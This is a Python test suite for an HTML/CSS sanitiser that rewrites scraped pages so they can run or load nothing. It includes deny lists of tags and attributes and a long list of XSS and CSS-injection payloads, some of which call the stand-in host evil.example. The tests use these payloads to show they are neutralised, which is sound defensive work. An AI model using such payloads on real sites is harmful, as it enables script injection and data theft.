"""The page as HTML that can do nothing: what is written, and above all what never is."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree, html
from trees import PAGES, examples

from scrapy_treesim import Page
from scrapy_treesim.inspector.inert import page as inert_page
from scrapy_treesim.inspector.inert.css import inert_css
from scrapy_treesim.inspector.inert.page import inert_html
from scrapy_treesim.tree import tags

URL = "https://shop.example/list/page.html"

# All that an inert page may be made of: a doctype, tags with quoted attributes, text.
TAG = re.compile(
    r"<!DOCTYPE html[^<>]*>|</([a-z][a-z0-9:._-]*)>|"
    r'<([a-z][a-z0-9:._-]*)((?: [a-z_][a-z0-9:._-]*="[^"<>]*")*)>'
)
ATTRIBUTE = re.compile(r' ([a-z_][a-z0-9:._-]*)="([^"<>]*)"')
SHEET = re.compile(r"(<style[^<>]*>)(.*?)</style>", re.DOTALL)
NEVER = frozenset(
    "script noscript template iframe frame frameset object embed applet portal base link source "
    "track param foreignobject animate animatemotion animatetransform set feimage maction "
    "annotation-xml mglyph malignmark xmp plaintext listing noembed noframes keygen isindex "
    "bgsound".split()
)
NEVER_ATTRIBUTES = frozenset(
    "action formaction srcset srcdoc name target ping download background is slot nonce part "
    "http-equiv content contenteditable autofocus accesskey tabindex popover popovertarget "
    "commandfor command usemap poster data code codebase archive longdesc cite profile manifest "
    "lowsrc dynsrc xlink:href xml:base autoplay".split()
)


def inert(markup: str | bytes, resource: Callable[[str], str | None] | None = None) -> str:
    return inert_html(Page(markup, url=URL), resource)


def body(markup: str, resource: Callable[[str], str | None] | None = None) -> str:
    """What is in the body, without node numbers."""
    written = inert(markup, resource).partition("<body")[2].partition(">")[2]
    return re.sub(r' data-treesim-node="\d+"', "", written).removesuffix("</body></html>")


def numbered(written: str) -> list[tuple[str, int]]:
    return [(name, int(node)) for name, node in re.findall(
        r'<([a-z][^ >]*) data-treesim-node="(\d+)"', written
    )]  # fmt: skip


def assert_inert(written: str) -> None:
    """Whoever parses it, in whatever state, finds the tags and attributes written, no others."""
    for _, sheet in SHEET.findall(written):
        assert not re.search(r"<[a-zA-Z/!?]", sheet)
        assert_loads_nothing(sheet)
    outside = SHEET.sub(r"\1</style>", written)
    assert "<" not in TAG.sub("", outside)
    for _, name, attributes in TAG.findall(outside):
        assert name not in NEVER
        for attribute, value in ATTRIBUTE.findall(attributes):
            assert not attribute.startswith("on")
            assert attribute not in NEVER_ATTRIBUTES
            if attribute in ("href", "src"):
                assert value.startswith("#" if name == "use" else "data:image/")
            if attribute == "style":
                assert_loads_nothing(value)
            if attribute == "data-treesim-href":
                assert not re.match(r"\s*(?:javascript|data|vbscript):", value, re.IGNORECASE)
            if name == "meta":
                assert attribute == "charset"
            if attribute == "method":
                assert value == "dialog"


def assert_loads_nothing(css: str) -> None:
    css = css.replace("&quot;", '"').replace("&#x27;", "'")
    outside_strings = re.sub(r'(?<!url\()(?:"(?:[^"\\\n]|\\.)*"|\'(?:[^\'\\\n]|\\.)*\')', "", css)
    addresses = r'(?<![-\w#@])url\((?!"(?:data:image/|data:font/|#))'
    assert not re.search(addresses, outside_strings, re.I)
    loading = r"@import(?![-\w\\])|(?<![-\w#@])(?:expression|image-set|src)\("
    assert not re.search(loading, outside_strings, re.I)


# What is written


@pytest.mark.parametrize("path", PAGES, ids=lambda path: path.stem)
def test_every_element_that_shows_is_there_under_its_number(path: object) -> None:
    page = Page(path.read_bytes(), url=URL)  # type: ignore[attr-defined]
    written = inert_html(page)
    found = {node: name for name, node in numbered(written)}
    unseen = tags.numbers("script meta link base source track param")

    for node, tag in enumerate(page.tree.tag):
        if tag == tags.TEXT or tag in unseen:
            assert node not in found
        else:
            assert found[node].removeprefix("x-") == page.tree.name(node)
    assert_inert(written)


def test_the_document_is_whole() -> None:
    written = inert("<!DOCTYPE html><html lang=en class=x><head><title>t</title></head><body>b")

    assert written.startswith(
        '<!DOCTYPE html><html data-treesim-node="0" lang="en" class="x"><head '
    )
    assert '<meta charset="utf-8">' in written
    assert written.endswith("b</body></html>")


def test_any_element_can_be_shown() -> None:
    root = html.fragment_fromstring("<div><p>one</p></div>")
    page = Page(root[0])
    written = inert_html(page)

    assert written.endswith('<body><p data-treesim-node="0">one</p></body></html>')


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE html>",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN">',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" '
        '"http://www.w3.org/TR/html4/loose.dtd">',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    ],
)
def test_browsers_choose_the_mode_by_the_doctype_of_the_page(doctype: str) -> None:
    assert inert(f"{doctype}<html><body><p>x").startswith(f"{doctype}<html")


def test_a_page_without_a_doctype_is_laid_out_in_quirks_mode() -> None:
    assert '"-//W3C//DTD HTML 4.0 Transitional//EN"' in inert("<html><body><p>x").partition(">")[0]
    assert inert('<!DOCTYPE html SYSTEM "about:legacy-compat"><p>x').startswith("<!DOCTYPE html>")


@pytest.mark.parametrize("id", ["'x\"><img src=x>'", "'\"<script>'", "'x' '\"><b>'"])
def test_no_doctype_holds_markup(id: str) -> None:
    assert_inert(inert(f"<!DOCTYPE html PUBLIC {id}><p>x"))


def test_noscript_and_templates_are_there_and_not_displayed() -> None:
    assert body("<div><noscript><p>in</p></noscript></div>") == (
        '<div><x-noscript style="display:none!important"><p>in</p></x-noscript></div>'
    )
    assert body("<div><template><style>p{}</style></template></div>") == (
        '<div><x-template style="display:none!important"><style></style></x-template></div>'
    )


def test_control_characters_go() -> None:
    root = etree.fromstring("<html><body><p title='a&#127;b'>x&#133;&#127;y</p></body></html>")

    assert "\x7f" not in inert_html(Page(root))


# Links, forms, pictures


@pytest.mark.parametrize(
    ("href", "told"),
    [
        ("/p/1?a=1&amp;b=2", "https://shop.example/p/1?a=1&amp;b=2"),
        ("../up.html", "https://shop.example/up.html"),
        ("/a/../b", "https://shop.example/b"),
        ("//other.example/x", "https://other.example/x"),
        ("mailto:a@b.example", "mailto:a@b.example"),
        ("javascript:alert(1)", ""),
        ("JaVa&#9;Script:alert(1)", ""),
        ("data:text/html,x", ""),
        ("http://[", ""),
    ],
)
def test_a_link_tells_where_it_led_and_leads_nowhere(href: str, told: str) -> None:
    written = body(f'<a href="{href}">x</a>')

    assert written == f'<a data-treesim-href="{told}">x</a>'


@pytest.mark.parametrize("name", ["\x0e", "{", "{x}y", "\ud800"])
def test_attributes_with_names_that_are_none_in_xml_go(name: str) -> None:
    shown = inert_html(Page(f"<p {name} title=kept>one</p>"))
    assert 'title="kept"' in shown
    assert f" {name}" not in shown


def test_forms_send_nothing_and_own_no_controls() -> None:
    written = body(
        "<form action=/send name=body><input name=q type=password value=v><input type=file>"
        "<button formaction=/x type=submit name=b>go</button>"
        "<select name=s><option value=1>a</select>"
        "<textarea name=t>x</textarea><input type=hidden value=token></form>"
    )

    assert written.startswith('<form method="dialog" autocomplete="off">')
    assert written.count('form=""') == 6
    assert "action" not in written
    assert " name=" not in written
    assert "password" not in written
    assert " value=" not in written.replace(' value="1"', "")
    assert "file" not in written


def test_ids_that_would_hide_the_properties_of_a_form_go() -> None:
    assert " id=" not in body("<form><img id=getAttribute><img id=closest><img id=logo></form>")
    assert 'id="logo"' in body("<form><b id=logo></b></form>")


@pytest.mark.parametrize(
    ("markup", "shown"),
    [
        ("<img src=/a.png>", "/a.png"),
        ("<img src=/blank.gif data-src=/a.png>", "/a.png"),
        ("<img src=data:image/gif;base64,R0 data-original=/a.png>", "/a.png"),
        ("<img srcset='/a.png 1x, /b.png 2x'>", "/a.png"),
        ("<img src=data:image/gif;base64,R0 data-srcset='/a.png, /b.png 2x'>", "/a.png"),
        ("<picture><source srcset='/a.webp 1x'><source srcset=/b.png><img></picture>", "/a.webp"),
        ("<picture><source srcset=/a.webp><img src=/b.png></picture>", "/b.png"),
        ("<picture><source srcset=/a.webp></picture><img>", None),
        ("<noscript><img src=/a.png></noscript>", None),
        ("<input type=image src=/a.png>", "/a.png"),
        ("<svg><image xlink:href=/a.png /></svg>", "/a.png"),
        ("<image src=/a.png>", "/a.png"),
        ("<video poster=/a.png src=/v.mp4></video>", "/a.png"),
    ],
)
def test_pictures_are_loaded_from_where_the_resource_says(markup: str, shown: str | None) -> None:
    asked: list[str] = []

    def resource(address: str) -> str:
        asked.append(address)
        return f"/shown?{len(asked)}&"

    written = body(f"<div>{markup}</div>", resource)

    assert asked == ([] if shown is None else [f"https://shop.example{shown}"])
    assert ("/shown?1&amp;" in written) == (shown is not None)


def test_pictures_in_the_page_itself_are_shown() -> None:
    assert body("<img src='data:image/png;base64,AA'>") == '<img src="data:image/png;base64,AA">'
    assert " src=" not in body("<img src='data:text/html,x'>")
    assert " src=" not in body(f"<img src='data:image/png;base64,{'A' * 500_000}'>")


def test_style_sheets_are_linked_as_the_resource_says() -> None:
    markup = (
        "<link rel=stylesheet href=/a.css media=print><link rel='alternate stylesheet' href=/b.css>"
        "<link rel=preload href=/c.css><noscript><link rel=stylesheet href=/d.css></noscript><p>x"
    )
    written = inert(markup, lambda address: f"/r?{address}")

    assert re.findall(r"<link[^>]*>", written) == [
        '<link rel="stylesheet" href="/r?https://shop.example/a.css" data-treesim-node="2" '
        'media="print">'
    ]
    assert "<link" not in inert(markup)


# Styles


@pytest.mark.parametrize(
    ("css", "kept"),
    [
        ("a{color:red;width:calc(1px + 2%)}", None),
        ("a:not(.b)::after{content:'\\201C'}", None),
        (".sm\\:flex>b{margin:-1em}", None),
        ("@media (min-width:600px) and (width<700px){a{top:1px}}", None),
        ("a{background:#fff url(x.png) no-repeat}", "a{background:#fff none  no-repeat}"),
        ("a{background:\\75rl(x)}", "a{background:-treesim-none(x)}"),
        ("a{background:u\\72 l('x')}", "a{background:-treesim-none('x')}"),
        ("a{background:URL(\n'x'\n)}", "a{background:none }"),
        ("a{background:url(x y)}", "a{background:-treesim-none(x y)}"),
        ("a{background:url('x", "a{background:-treesim-none('x"),
        ("a{background:image-set('x' 1x)}", "a{background:-treesim-none('x' 1x)}"),
        ("a{width:expression(x)}", "a{width:-treesim-none(x)}"),
        ("a{fill:url(#g)}", 'a{fill:url("#g")}'),
        ("a{b:url(data:image/png;base64,AA)}", 'a{b:url("data:image/png;base64,AA")}'),
        ("a{b:url(data:text/css,x)}", "a{b:none }"),
        ("@import 'x';a{}", "@treesim-none 'x';a{}"),
        ("@IMPORT/**/url(x);", "@treesim-none/**/none ;"),
        ("@\\69mport 'x';", "@treesim-none 'x';"),
        ("/* url(x) */a{}", "/**/a{}"),
        ("/* */*/{}b{c:url(x)}", "/**/*/{}b{c:none }"),
        ("a{b:'\\'}c{d:url(x)}'}", None),
        ("a{b:'\\\\'}c{d:url(x)}", "a{b:'\\\\'}c{d:none }"),
        ("a{b:'\n}c{d:url(x)}", "a{b:'\n}c{d:none }"),
        ("<!-- a{} -->", " a{} "),
        ("<![CDATA[a{}]]>", "a{}"),
        ("a{b:'</style><img>'}", "a{b:'\\3c /style>\\3c img>'}"),
        ("a:link,a:hover{}", "a[data-treesim-href],a:hover{}"),
        ("a:not([href])", "a:not([data-treesim-href])"),
        ("a[ href^='x']", "a[data-treesim-href^='x']"),
    ],
)
def test_styles_keep_their_look_and_load_nothing(css: str, kept: str | None) -> None:
    assert inert_css(css) == (css if kept is None else kept)


def test_addresses_in_styles_go_through_load() -> None:
    asked: list[str] = []

    def load(address: str) -> str | None:
        asked.append(address)
        return None if address == "no" else f'got "{address}"</style>'

    written = inert_css("a{b:url( one );c:url('t\\77o');d:url(\"no\")}", load)

    assert asked == ["one", "two", "no"]
    assert written == (
        'a{b:url("got \\22 one\\22 \\3c /style>");c:url("got \\22 two\\22 \\3c /style>");d:none }'
    )


def test_styles_of_elements_are_filtered_too() -> None:
    assert body("<p style='color:red;background:url(/a.png)'>x</p>", lambda address: "/r") == (
        '<p style="color:red;background:url(&quot;/r&quot;)">x</p>'
    )
    assert body("<svg><rect fill='url(http://e.example/#a)' stroke='url(#b)' /></svg>") == (
        '<svg><rect fill="none " stroke="url(&quot;#b&quot;)"></rect></svg>'
    )


def test_styles_in_drawings_say_the_same_to_whoever_reads_entities_there() -> None:
    written = body("<svg><style>a{b:'&quot;'}</style></svg>")

    assert written == "<svg><style>a{b:'\\26 quot;'}</style></svg>"


def test_no_character_that_is_dropped_hides_an_address() -> None:
    for character in "\x01\x0b\x7f\ufffe\uffff":
        markup = f"<div style='a:u{character}rl(x)'><style>@imp{character}ort 'x'</style></div>"
        assert_inert(inert(markup))


def test_too_many_styles_come_out_empty(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inert_page, "MAX_CSS", 10)

    assert body("<div><style>a{b:c}</style><style>d{e:f}</style></div>") == (
        "<div><style>a{b:c}</style><style></style></div>"
    )


# What never gets through

VECTORS = r"""
<script>alert(1)</script><SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)><img src=http://evil.example/a.png srcset="http://evil.example/b.png 2x">
<svg/onload=alert(1)><svg><script>alert(1)</script></svg><svg><script href=http://evil.example/a.js />
<svg><a xlink:href="javascript:alert(1)"><text>z</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x /><set attributeName=onload to=alert(1) /></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>y</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x"></svg>
<svg><use xlink:href="http://evil.example/a.svg#x" /><filter><feImage href=http://evil.example/f /></filter>
<svg><image href=http://evil.example/a.png /><image xlink:href=http://evil.example/a.png /></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml>
<math href="javascript:alert(1)"><maction actiontype=x xlink:href="javascript:alert(1)">c</maction></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext></plaintext><img src=x onerror=alert(1)>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<select><template><p title="</template></select><img src=x onerror=alert(1)>"></template></select>
<select><style></select><img src=x onerror=alert(1)></style></select>
<template shadowrootmode=open><img src=x onerror=alert(1)><script>alert(1)</script></template>
<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>
<html><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset></html>
<object data="javascript:alert(1)"></object><embed code=javascript:alert(1)><applet archive=http://evil.example/>
<portal src=http://evil.example/></portal><fencedframe src=http://evil.example/></fencedframe>
<base href=http://evil.example/><meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=http://evil.example/s.css><link rel=prefetch href=http://evil.example/p>
<a href="javascript:alert(1)">x</a><a href="&#1;java&#10;script:alert(1)">x</a>
<a href=http://evil.example/ ping=http://evil.example/p download target=_blank>x</a>
<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=x>
<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button>
<form id=f action=http://evil.example/></form><button form=f>x</button><isindex action=javascript:alert(1)>
<input autofocus onfocus=alert(1)><input type=image src=http://evil.example/i.png onerror=alert(1)>
<video src=http://evil.example/v poster=http://evil.example/p autoplay><source src=x onerror=alert(1)><track src=x>
<body onload=alert(1) background=http://evil.example/b.png><table background=http://evil.example/t.png>
<div style="background:url(http://evil.example/a.png)"><div style="background:\75rl(http://evil.example/)">
<div style="background:u/**/rl(http://evil.example/)"><div style="background:image-set('http://evil.example/' 1x)">
<div style="--u:url(http://evil.example/a.png);background:var(--u)">x</div>
<div style="width:expression(alert(1));behavior:url(http://evil.example/);-moz-binding:url(http://evil.example/)">
<style>@import "http://evil.example/s.css";</style><style>@import url(http://evil.example/s.css);</style>
<style><!-- @import "http://evil.example/"; --></style><style>@im<!--port "http://evil.example/";</style>
<style>@import "http://evil.example/s.css</style><style>a{background:url("http://evil.example/a.png</style>
<style>@font-face{font-family:q;src:url(http://evil.example/f.woff)}</style>
<style>*{background:url(/*x*/http://evil.example/)}</style><style>*{background:1url(x),url(http://evil.example/)}</style>
<style></sty\6ce><img src=x onerror=alert(1)></style><style>a::before{content:"</style><img src=x onerror=alert(1)>"}</style>
<svg><style>*{background:"&quot;;background:url(http://evil.example/b.png);"}</style></svg>
<p id="</p><img src=x onerror=alert(1)>" class='"><img src=x onerror=alert(1)>' title="'><script>alert(1)</script>">x
<p a"b=1 "onclick=alert(1) x=1 /onmouseover=alert(1)<img onload=alert(1) >q</p>
<img src="x` `<script>alert(1)</script>"` `><!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>
<?php echo '<img src=x onerror=alert(1)>' ?><![CDATA[<img src=x onerror=alert(1)>]]>
<img name=querySelectorAll><form name=body></form><object id=body></object><embed name=cookie>
<div data-treesim-node=999 data-treesim-href="javascript:alert(1)" DATA-TREESIM-FRAME=x>x</div>
<a href=x><a href=y>nested</a></a><p><p><div></p><table><div>in table</div><tr><td><form><form>
<button popovertarget=pp>p</button><div popover id=pp onbeforetoggle=alert(1)>x</div><details ontoggle=alert(1)>
<x-card is=x onclick=alert(1) contenteditable accesskey=a>c</x-card><o:p>o</o:p><font-face-uri xlink:href=x>
<image src=http://evil.example/im.png onerror=alert(1)><bgsound src=javascript:alert(1)><keygen autofocus>
<link rel=stylesheet href="data:text/css,*{background:url(http://evil.example/)}"><p onpageshow=alert(1)>
<svg><desc><style><img src=x onerror=alert(1)></style></desc><title><style><img src=x onerror=alert(1)></style></title>
<div><math><mtext><option><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=# onerror=alert(1)>">
<a href=" javascript:alert(1)" title='</a><svg onload=alert(1)>'>&lt;img src=x onerror=alert(1)&gt;</a>
<script-x src=http://evil.example/x.js>x</script-x><div-- onclick=alert(1)>x</div--><p:script>alert(1)</p:script>
""".strip().splitlines()  # noqa: E501


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_gets_through(vector: str) -> None:
    written = inert(vector)

    assert_inert(written)
    assert_inert(inert(written))


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_gets_through_in_other_surroundings(vector: str) -> None:
    for before in (
        "<table><tr><td>",
        "<svg><desc>",
        "<select><option>",
        "<head><noscript>",
        "<p><a>",
    ):
        assert_inert(inert(before + vector))


PIECES = st.sampled_from(sorted({
    piece for vector in VECTORS for piece in re.findall(r"<[^>]*>|[^<]+", vector)
}))  # fmt: skip


@given(st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=30).map("".join))
@examples(150)
def test_whatever_the_soup_nothing_gets_through(soup: str) -> None:
    page = Page(soup, url=URL)
    written = inert_html(page)

    assert_inert(written)
    names = {node: name for name, node in numbered(written)}
    for node, name in names.items():
        own = page.tree.name(node).lower()
        assert name in (own, f"x-{own}", "div", "pre", "img", "x-unnamed")
    for element in Page(written).root.iter("*"):
        assert element.tag != "script"


CSS_PIECES = st.sampled_from(
    (
        "url( URL( u\\72l( \\75rl( src( image-set( \" ' \\ /* */ http://e.example/ # @import { } "
        "@\\69mport ) ( a 1 1e - é ! < <!-- --> </style> ]]> ; : var( expression( url('x') "
        "url(x) url(#a) \n \\\n \\6 :link [href"
    ).split(" ")
)


@given(st.lists(CSS_PIECES, max_size=25).map("".join))
@examples(300)
def test_whatever_the_style_it_loads_nothing(css: str) -> None:
    written = inert_css(css)

    assert not re.search(r"<[a-zA-Z/!?]", written)
    # Comments and strings may say what they like; here it is enough to look at sheets without any.
    if not re.search(r"[\"'\\]|/\*", written.replace('url("#a")', "")):
        assert_loads_nothing(written)


def test_xhtml_is_read_as_such() -> None:
    root = etree.fromstring(
        '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:l="http://www.w3.org/1999/xlink"><head>'
        "<SCRIPT>alert(1)</SCRIPT></head><body ONLOAD='alert(1)'>"
        "<a HREF='javascript:x' l:href='/q'>"
        "<![CDATA[<script>]]></a><IFRAME src='http://evil.example/'/></body></html>"
    )
    written = inert_html(Page(root, url=URL))

    assert_inert(written)
    assert "&lt;script&gt;" in written


# Bounds


def test_deep_pages_are_written() -> None:
    written = inert("<div>" * 5_000 + "x")

    assert written.count("<div") == written.count("</div>") > 200
    assert_inert(written)


def test_long_pages_are_cut_with_a_note(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inert_page, "MAX_ELEMENTS", 5)
    written = inert("<ul><li>one<li>two<li>three<li>four</ul>")

    assert "two" in written
    assert "three" not in written
    assert "data-treesim-cut" in written
    assert_inert(written)


@pytest.mark.parametrize("page", ["", " ", "\x00", "<", "<html", "<!--", "\ufeff", "&#0;"])
def test_pages_of_nothing_are_pages(page: str) -> None:
    assert_inert(inert(page))
